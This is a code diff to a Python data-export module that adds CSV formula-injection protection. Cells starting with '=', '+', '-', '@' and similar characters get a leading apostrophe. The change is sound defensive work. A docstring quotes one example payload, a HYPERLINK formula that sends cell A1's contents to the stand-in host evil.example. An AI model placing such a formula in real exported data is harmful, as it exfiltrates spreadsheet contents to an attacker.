@@ -176,7 +176,8 @@ def write_versions(
     writer.writeheader()
     count = 0
     for row in rows:
-        writer.writerow(row | {"paragraphs": json.dumps(row["paragraphs"], ensure_ascii=False)})
+        cells = row | {"paragraphs": json.dumps(row["paragraphs"], ensure_ascii=False)}
+        writer.writerow(_csv_row(cells))
         count += 1
     return count
 
@@ -219,13 +220,33 @@ def write_jsonl(rows: Iterable[dict[str, Any]], stream: TextIO) -> int:
     return count
 
 
+# A spreadsheet reads a cell starting with one of these as a formula (OWASP, "CSV Injection");
+# the full-width forms too, in some locales.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+
+
+def formula_safe(value: Any) -> Any:
+    """A text cell that a spreadsheet would run as a formula gets a leading `'` (OWASP).
+
+    `=HYPERLINK("http://evil.example/?x="&A1,…)` in an article must stay text in Excel and
+    LibreOffice. Numbers, empty cells and JSONL/Parquet exports are left exact.
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def _csv_row(row: dict[str, Any]) -> dict[str, Any]:
+    return {key: formula_safe(value) for key, value in row.items()}
+
+
 def write_csv(rows: Iterable[dict[str, Any]], stream: TextIO) -> int:
-    """RFC 4180 CSV with a header; empty cells stand for missing values."""
+    """RFC 4180 CSV with a header; empty cells stand for missing values; formulas neutralised."""
     writer = csv.DictWriter(stream, fieldnames=EDIT_FIELDS, lineterminator="\n")
     writer.writeheader()
     count = 0
     for row in rows:
-        writer.writerow(_textual(row))
+        writer.writerow(_csv_row(_textual(row)))
         count += 1
     return count
 
